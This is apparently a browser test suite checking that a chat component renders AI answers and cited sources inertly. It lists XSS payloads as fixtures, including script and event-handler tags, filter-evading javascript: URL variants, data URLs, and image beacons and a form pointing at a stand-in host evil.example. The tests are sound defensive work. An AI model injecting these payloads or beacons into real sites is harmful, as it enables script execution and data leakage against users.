import { expect } from '@esm-bundle/chai';
import type { Citation } from '../src/index.js';
import { $, $$, cleanup, fixture, loadMarkdownChunk, waitFor } from './helpers.js';

declare global {
  interface Window {
    __xss?: number;
  }
}

/** Answers a model or a poisoned source could produce. Each must render inert. */
const HOSTILE_ANSWERS: [string, string][] = [
  ['script tag', 'Hi <script>window.__xss=1</script> there'],
  ['block script', '<script>\nwindow.__xss=1\n</script>'],
  ['img onerror', 'x <img src=x onerror="window.__xss=1"> y'],
  ['block img onerror', '<img src=x onerror="window.__xss=1">'],
  ['svg onload', '<svg onload="window.__xss=1"><circle r=1 /></svg>'],
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['style', '<style>*{display:none}</style>'],
  ['raw anchor', '<a href="javascript:window.__xss=1">click</a>'],
  ['javascript link', '[click me](javascript:window.__xss=1)'],
  ['javascript mixed case', '[click](JaVaScRiPt:window.__xss=1)'],
  ['javascript entity', '[click](javascript&colon;window.__xss=1)'],
  ['javascript with tab', '[click](java\tscript:window.__xss=1)'],
  ['javascript autolink', '<javascript:window.__xss=1>'],
  ['javascript reference', '[click][evil]\n\n[evil]: javascript:window.__xss=1'],
  ['vbscript link', '[click](vbscript:msgbox(1))'],
  ['data link', '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)'],
  ['data image', '![x](data:image/svg+xml,<svg onload=window.__xss=1>)'],
  ['image beacon', '![pixel](https://evil.example/beacon.gif?leak=secret)'],
  ['reference image beacon', '![pixel][b]\n\n[b]: https://evil.example/beacon.gif'],
  ['link title breakout', '[x](https://ok.example/ "a\\" onmouseover=\\"window.__xss=1")'],
  ['html in code span', '`<img src=x onerror=window.__xss=1>`'],
  ['html in fenced code', '```html\n<script>window.__xss=1</script>\n```'],
  ['entities', '&lt;script&gt;window.__xss=1&lt;/script&gt; &#60;img src=x onerror=window.__xss=1&#62;'],
  ['html in table', '| a | b |\n|---|---|\n| <img src=x onerror=window.__xss=1> | <script>window.__xss=1</script> |'],
  ['html in heading and quote', '# <img src=x onerror=window.__xss=1>\n\n> <iframe src=javascript:window.__xss=1>'],
  ['form', '<form action="https://evil.example"><input name=a><button>go</button></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">'],
  ['javascript decimal entity', '[click](&#106;avascript:window.__xss=1)'],
  ['javascript hex entity', '[click](&#x6A;avascript&#x3A;window.__xss=1)'],
  ['javascript leading space and control', '[click](<\u0001 javascript:window.__xss=1>)'],
  ['javascript with newline', '[click](<java\nscript:window.__xss=1>)'],
  ['javascript autolink mixed case', '<JAVASCRIPT:window.__xss=1>'],
  ['protocol-relative image beacon', '![pixel](//evil.example/beacon.gif)'],
  ['backslash image beacon', '![pixel](\\\\evil.example\\beacon.gif)'],
  ['relative image beacon', '![pixel](/beacon.gif?leak=1)'],
  ['html img beacon', '<img src="https://evil.example/beacon.gif">'],
  ['entity-encoded tags', '&lt;img src=x onerror=window.__xss=1&gt; &amp;lt;script&amp;gt;'],
  ['unterminated', '**bold `code <img src=x onerror=window.__xss=1> [link](javascript:'],
];

const HOSTILE_SOURCES: Citation[] = [
  { id: '1', title: '<img src=x onerror="window.__xss=1">', snippet: '<script>window.__xss=1</script>', url: 'javascript:window.__xss=1' },
  { id: '2', title: 'data', snippet: '<svg onload=window.__xss=1>', url: 'data:text/html,<script>window.__xss=1</script>' },
  { id: '3', title: 'fine', snippet: 'ok', url: 'https://docs.example/page' },
  { id: '4', title: 'space', snippet: 's', url: ' \tjavascript:window.__xss=1' },
  { id: '5', title: 'case', snippet: 's', url: 'JaVaScRiPt:window.__xss=1' },
  { id: '6', title: 'split', snippet: 's', url: 'java\nscript:window.__xss=1' },
  { id: '7', title: 'vbscript', snippet: 's', url: 'vbscript:msgbox(1)' },
  { id: '8', title: 'data upper', snippet: 's', url: 'DATA:text/html,<script>window.__xss=1</script>' },
];
/** Source URLs that are not schemes of their own: they resolve against the page to http(s). */
const RESOLVED_SOURCES: [string, string][] = ['//evil.example/x', '/\\evil.example/x', 'javascript%3Awindow.__xss=1', './javascript:window.__xss=1'].map((u) => [
  u,
  new URL(u, document.baseURI).href,
]);

const FORBIDDEN = 'script, img, iframe, svg:not(button svg), style, object, embed, form, input, meta, link, video, audio, image';

function assertInert(root: ShadowRoot, label: string) {
  const scope = [...root.querySelectorAll('.log, .source-panel')];
  for (const s of scope) expect(s.querySelector(FORBIDDEN), `${label}: no active elements`).to.equal(null);
  for (const el of root.querySelectorAll('*')) {
    for (const a of el.attributes) {
      expect(a.name.startsWith('on'), `${label}: no ${a.name} attribute`).to.equal(false);
      if (a.name === 'href' || a.name === 'src' || a.name === 'action') {
        expect(new URL(a.value, document.baseURI).protocol, `${label}: ${a.name}=${a.value}`).to.match(/^(https?|mailto):$/);
      }
    }
  }
  for (const a of root.querySelectorAll('a[href]')) {
    if (a.closest('.log, .source-panel') && a.getAttribute('target') === '_blank') expect(a.getAttribute('rel')).to.equal('noopener noreferrer');
  }
  expect(window.__xss, `${label}: no script ran`).to.equal(undefined);
}

describe('hostile answers and sources render inert', () => {
  before(async function () {
    this.timeout(60_000);
    await loadMarkdownChunk();
  });
  afterEach(cleanup);

  for (const [label, content] of HOSTILE_ANSWERS) {
    it(label, async () => {
      const el = await fixture();
      el.messages = [
        { id: 'u', role: 'user', content: content },
        { id: 'a', role: 'assistant', content: content + '\n\nSee [1] [2] [3].', status: 'done', context: { citations: HOSTILE_SOURCES } },
      ];
      await waitFor(() => $(el, '.msg.assistant .cite'), 'the Markdown renderer');
      await new Promise((r) => setTimeout(r, 30));
      assertInert(el.shadowRoot!, label);
      // What was raw HTML shows as its text.
      if (content.startsWith('<script>') || content.startsWith('<iframe')) expect($(el, '.msg.assistant .bubble')!.textContent).to.contain('<');
    });
  }

  // One test per answer (each streams a dozen prefixes): a single test of every answer's every
  // prefix did ~300 renders and ran out of mocha's time on a slowed CPU.
  for (const [label, content] of HOSTILE_ANSWERS) {
    it(`mid-stream too, the healing of open Markdown included: ${label}`, async () => {
      const el = await fixture();
      // Every prefix a stream could stop at, in steps.
      for (let end = 1; end <= content.length; end += Math.max(1, Math.floor(content.length / 12))) {
        el.messages = [{ id: `s-${label}`, role: 'assistant', content: content.slice(0, end), status: 'streaming', context: { citations: HOSTILE_SOURCES } }];
        await el.updateComplete;
        await waitFor(() => !$(el, '.plain'), 'the Markdown renderer');
        assertInert(el.shadowRoot!, `${label} (first ${end} characters, streaming)`);
      }
    });
  }

  it('sources with hostile titles, snippets and URLs', async () => {
    const el = await fixture();
    el.messages = [
      { id: 'u', role: 'user', content: 'q' },
      { id: 'a', role: 'assistant', content: 'See [1], [2] and [3].', status: 'done', context: { citations: HOSTILE_SOURCES } },
    ];
    await waitFor(() => $$(el, '.source').length === HOSTILE_SOURCES.length, 'source buttons');
    for (let i = 0; i < HOSTILE_SOURCES.length; i++) {
      $$(el, '.source')[i]!.click();
      await el.updateComplete;
      const panel = $(el, '.source-panel')!;
      expect(panel.querySelector('h3')!.textContent).to.contain(HOSTILE_SOURCES[i]!.title);
      expect(panel.querySelector('.snippet')!.textContent).to.equal(HOSTILE_SOURCES[i]!.snippet);
      const link = panel.querySelector('a');
      if (i !== 2) expect(link, `unsafe source URL ${JSON.stringify(HOSTILE_SOURCES[i]!.url)} is not linked`).to.equal(null);
      else expect(link!.href).to.equal('https://docs.example/page');
      assertInert(el.shadowRoot!, `source ${i + 1}`);
    }
  });

  it('source URLs are judged once resolved: protocol-relative and relative tricks end up http(s)', async () => {
    const el = await fixture();
    el.messages = [
      { id: 'u', role: 'user', content: 'q' },
      { id: 'a', role: 'assistant', content: 'See.', status: 'done', context: { citations: RESOLVED_SOURCES.map(([url], i) => ({ id: `${i}`, title: `t${i}`, snippet: 's', url })) } },
    ];
    await waitFor(() => $$(el, '.source').length === RESOLVED_SOURCES.length, 'source buttons');
    for (let i = 0; i < RESOLVED_SOURCES.length; i++) {
      $$(el, '.source')[i]!.click();
      await el.updateComplete;
      const link = $<HTMLAnchorElement>(el, '.source-panel a');
      expect(link?.href, RESOLVED_SOURCES[i]![0]).to.equal(RESOLVED_SOURCES[i]![1]);
      expect(link!.rel).to.equal('noopener noreferrer');
      assertInert(el.shadowRoot!, `resolved source ${i + 1}`);
    }
  });

  it('no request leaves for an image in an answer', async () => {
    const before = performance.getEntriesByType('resource').length;
    const el = await fixture();
    el.messages = [{ id: 'a', role: 'assistant', content: '![a](https://evil.example/a.gif) ![b](/local-beacon.gif) <img src="/html-beacon.gif">', status: 'done' }];
    await waitFor(() => $$(el, '.bubble a').length === 2, 'images shown as links');
    await new Promise((r) => setTimeout(r, 100));
    const urls = performance.getEntriesByType('resource').slice(before).map((e) => e.name);
    expect(urls.filter((u) => /beacon|evil|a\.gif/.test(u))).to.deep.equal([]);
  });

  it('keeps http, https and mailto links, opened safely', async () => {
    const el = await fixture();
    el.messages = [{ id: 'a', role: 'assistant', content: '[a](https://a.example/x) [b](http://b.example/) [c](mailto:c@example.com) <https://d.example/>', status: 'done' }];
    await waitFor(() => $$(el, '.bubble a').length === 4, 'links');
    const links = $$<HTMLAnchorElement>(el, '.bubble a');
    expect(links.map((a) => a.href)).to.deep.equal(['https://a.example/x', 'http://b.example/', 'mailto:c@example.com', 'https://d.example/']);
    for (const a of links) {
      expect(a.rel).to.equal('noopener noreferrer');
      expect(a.target).to.equal('_blank');
    }
  });

  it('a user message is shown as text', async () => {
    const el = await fixture();
    el.messages = [{ id: 'u', role: 'user', content: '<img src=x onerror="window.__xss=1"> **not bold**' }];
    await el.updateComplete;
    expect($(el, '.msg.user .bubble')!.textContent).to.equal('<img src=x onerror="window.__xss=1"> **not bold**');
    assertInert(el.shadowRoot!, 'user');
  });
});
